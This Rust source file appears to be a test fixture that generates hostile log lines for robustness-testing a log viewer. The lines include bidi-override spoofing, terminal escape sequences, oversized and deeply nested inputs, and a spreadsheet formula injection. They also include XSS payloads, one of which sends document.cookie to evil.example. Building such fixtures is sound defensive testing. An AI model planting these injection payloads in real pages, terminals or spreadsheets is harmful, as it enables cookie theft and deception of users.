//! Lines that are made to harm whoever shows them.

use std::sync::OnceLock;

use protocol::Moment;

use super::Line;

/// How long they take, in milliseconds.
pub(super) const TAKES: i64 = 1_000;
/// The most that CloudWatch Logs takes as one event: 1 MiB, less what it counts for each.
const LONGEST: usize = 1_048_576 - 26;
const LEVELS: usize = 10_000;
const FRAMES: usize = 99;

/// All of them, from `at` on, a millisecond or two between them.
pub(super) fn lines(at: Moment) -> Vec<Line> {
    static TEXTS: OnceLock<Vec<String>> = OnceLock::new();
    let texts = TEXTS.get_or_init(|| odd().into_iter().chain(traceback()).collect());
    (0..)
        .zip(texts)
        .map(|(place, text)| Line { at: at.plus_millis(place * 2), message: text.clone() })
        .collect()
}

fn odd() -> Vec<String> {
    let mut lines: Vec<String> = [
        // NUL, and what is left of bytes that are no UTF-8: CloudWatch Logs keeps U+FFFD.
        "ERROR before\0after\0\0 nul=\0",
        "WARN broken \u{fffd}\u{fffd}\u{fffd} utf8 \u{fffd}(\u{fffd}\u{fffd}",
        "WARN lone parts \u{e0001} \u{fe0f}\u{fe0f} \u{200d}\u{200d} \u{feff} noncharacter \u{ffff} private \u{f8ff}",
        // Text that reads in another order than it is written.
        "INFO user=\u{202e}nimda\u{202c} role=\u{2066}\u{202e}reganam\u{2069} path=/invoice\u{202e}fdp.exe",
        "INFO \u{202a}\u{202b}\u{202d}\u{202e}\u{2067}\u{2068}\u{200e}\u{200f}\u{061c} never closed",
        // Control sequences: colours, a cleared screen, a title, a link, an answer-back, the other character set.
        "\u{1b}[31;1;5;7mERROR\u{1b}[0m \u{1b}[2J\u{1b}[H\u{1b}]0;owned\u{7}\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}[38;2;999;-1;4294967296m\u{1b}[1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1m\u{1b}[?1049h\u{1b}[c\u{1b}P$q\"p\u{1b}\\\u{e}\u{9b}31m unended \u{1b}[",
        "\r\rINFO all is well\r\u{8}\u{8}\u{8}\u{8}ERROR overwritten\u{b}\u{c}\u{85}\u{2028}\u{2029}three lines in one\n  two\n    three",
        // Markup.
        "<script>alert(1)</script><img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"><svg/onload=alert(1)>",
        "\"><iframe srcdoc='<script>parent.postMessage(1)</script>'></iframe><style>*{display:none}</style>&lt;b&gt;&amp;amp;&#0;",
        "[click](javascript:alert(1)) javascript:alert(1) file:///etc/passwd https://evil.example/\u{202e}moc.elpmaxe",
        // Formulas of spreadsheets.
        "=HYPERLINK(\"http://evil.example\",\"total\"),+1+cmd|' /C calc'!A0,@SUM(1),-2+3",
        "{\"level\":\"error\",\"message\":\"duplicate\",\"message\":\"keys\",\"level\":null,\"n\":1e999,\"d\":-0,\"u\":\"\\ud800\"}",
        "level=error level=info msg=\"no end of quotes=\\\" status=99999999999999999999999 =empty key== \"\"=",
        "",
        " ",
    ]
    .map(str::to_owned)
    .into();
    // Marks on one letter, and escapes that each cost more than they show.
    lines.push(format!("INFO z{} tall", "\u{0335}\u{0301}\u{0489}".repeat(700)));
    lines.push(format!("\u{1b}[0m{}", "\u{1b}[31m\u{1b}[42m.".repeat(20_000)));
    lines.push(format!("{}1{}", "{\"a\":".repeat(LEVELS), "}".repeat(LEVELS)));
    lines.push("[".repeat(LEVELS));
    lines.push(format!("{{\"wide\":[{}0]}}", "0,".repeat(40_000)));
    lines.push(format!("ERROR {}", "(a+)+".repeat(5_000)));
    let mut long = "ERROR 1 MiB ".to_owned();
    while long.len() < LONGEST {
        long.push_str("0123456789abcdefghijklmnopqrstuvwxyz-");
    }
    long.truncate(LONGEST);
    lines.push(long);
    lines
}

/// A Python traceback as a container's log driver sends it: an event for each line of it.
fn traceback() -> Vec<String> {
    let mut lines = vec!["ERROR unhandled exception in request".to_owned()];
    lines.push("Traceback (most recent call last):".to_owned());
    for frame in 0..FRAMES {
        let (number, depth) = (40 + frame * 7 % 900, frame % 12);
        lines.push(format!(
            "  File \"/app/paperwurks/analysis/step_{depth}.py\", line {number}, in walk_{frame}"
        ));
        lines.push(format!("    return walk_{}(document, depth={frame})", frame + 1));
    }
    lines.push("RecursionError: maximum recursion depth exceeded while calling a Python object".to_owned());
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_line_is_longer_than_cloudwatch_logs_takes() {
        let lines = lines(Moment(0));
        assert!(lines.iter().all(|line| line.message.len() <= LONGEST));
        assert!(lines.iter().any(|line| line.message.len() == LONGEST));
        assert!(lines.iter().all(|line| (0..TAKES).contains(&line.at.0)), "{}", lines.len());
        assert_eq!(traceback().len(), 3 + 2 * FRAMES);
    }
}
